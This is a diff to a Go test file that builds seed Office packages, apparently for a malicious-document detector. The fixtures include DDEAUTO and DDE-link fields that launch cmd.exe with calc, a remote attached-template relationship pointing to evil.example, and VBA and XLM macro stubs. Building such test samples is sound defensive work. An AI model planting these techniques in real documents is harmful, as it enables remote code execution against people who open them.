@@ -252,14 +252,14 @@ func seedPackages(t testing.TB) map[string][]byte {
 			defaults: map[string]string{"bin": "application/vnd.ms-office.vbaProject"},
 			extra:    []zfile{{name: "word/vbaProject.bin", body: oleMagic + strings.Repeat("\x00", 504)}}}.build(t),
 		"dde.docx": docx{body: complexField("x", " DD", `EAUTO c:\\windows\\system32\\cmd.exe "/k calc" `)}.build(t),
-		"template.docx": docx{extra: []zfile{
+		"template.docx": docx{docRels: []rel{{typ: "settings", target: "settings.xml"}}, extra: []zfile{
 			{name: "word/settings.xml", body: `<w:settings xmlns:w="` + nsW + `"><w:attachedTemplate r:id="rId1"/></w:settings>`},
 			{name: "word/_rels/settings.xml.rels", body: relsXML(rel{typ: "attachedTemplate", target: "https://evil.example/t.dotm", mode: "External"})},
 		}}.build(t),
 		"xlm.xlsm": xlsx{mainCT: ctXlsm, wbRels: []rel{{typ: msRel + "xlMacrosheet", target: "macrosheets/sheet1.xml"}},
 			overrides: map[string]string{"/xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
 			extra:     []zfile{{name: "xl/macrosheets/sheet1.xml", body: `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`}}}.build(t),
-		"embed.xlsx": xlsx{wbRels: []rel{{typ: "externalLink", target: "externalLinks/externalLink1.xml"}},
+		"embed.xlsx": xlsx{wbRels: []rel{{typ: "externalLink", target: "externalLinks/externalLink1.xml"}, {typ: "oleObject", target: "embeddings/oleObject1.bin"}},
 			overrides: map[string]string{"/xl/externalLinks/externalLink1.xml": ctExternalLinkXMLMixed},
 			extra: []zfile{
 				{name: "xl/externalLinks/externalLink1.xml", body: `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`},
